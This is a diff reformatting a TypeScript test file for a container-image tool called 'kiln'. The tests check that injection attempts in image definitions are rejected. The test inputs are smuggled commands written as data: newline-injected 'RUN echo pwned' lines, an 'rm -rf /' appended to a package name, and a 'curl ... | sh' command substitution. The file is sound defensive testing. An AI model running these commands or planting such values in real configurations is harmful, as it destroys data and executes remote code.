@@ -20,13 +20,24 @@ describe("a definition cannot make kiln write what it did not mean", () => {
   test.each<[string, string, RegExp]>([
     ["a newline in user", 'user: "app\\nRUN echo pwned",', /images\/x\/image\.ts: user: /],
     ["a newline in the description", 'description: "x\\nRUN echo pwned",', /images\/x\/image\.ts: description: a newline at character 2/],
-    ["a newline in a label key", 'labels: { "a\\nRUN echo pwned": "x" },', /images\/x\/image\.ts: labels\["a\\nRUN echo pwned"\]: expected a label key/],
+    [
+      "a newline in a label key",
+      'labels: { "a\\nRUN echo pwned": "x" },',
+      /images\/x\/image\.ts: labels\["a\\nRUN echo pwned"\]: expected a label key/,
+    ],
     ["a command in a package name", 'packages: ["nginx; rm -rf / #"],', /packages\[0\]: expected a package name/],
-    ["a command substitution in a package name", 'packages: ["$(curl https://example.com/x | sh)"],', /packages\[0\]: expected a package name/],
+    [
+      "a command substitution in a package name",
+      'packages: ["$(curl https://example.com/x | sh)"],',
+      /packages\[0\]: expected a package name/,
+    ],
     ["files from outside files/", 'files: [{ src: "x image.ts package.json", dest: "/x" }],', /files\[0\]\.src: a path that may hold only/],
   ])("%s exits 2 naming the field, and writes nothing", async (_name, extra, message) => {
     fixture = createWorkspaceFixture();
-    const source = imageSource("x", { extra }).replace('description: "x image", ', extra.startsWith("description") ? "" : 'description: "x image", ');
+    const source = imageSource("x", { extra }).replace(
+      'description: "x image", ',
+      extra.startsWith("description") ? "" : 'description: "x image", ',
+    );
     fixture.addImage("x", source);
     const result = await kiln(["synth"], fixture.root);
     expect(result.exitCode).toBe(2);
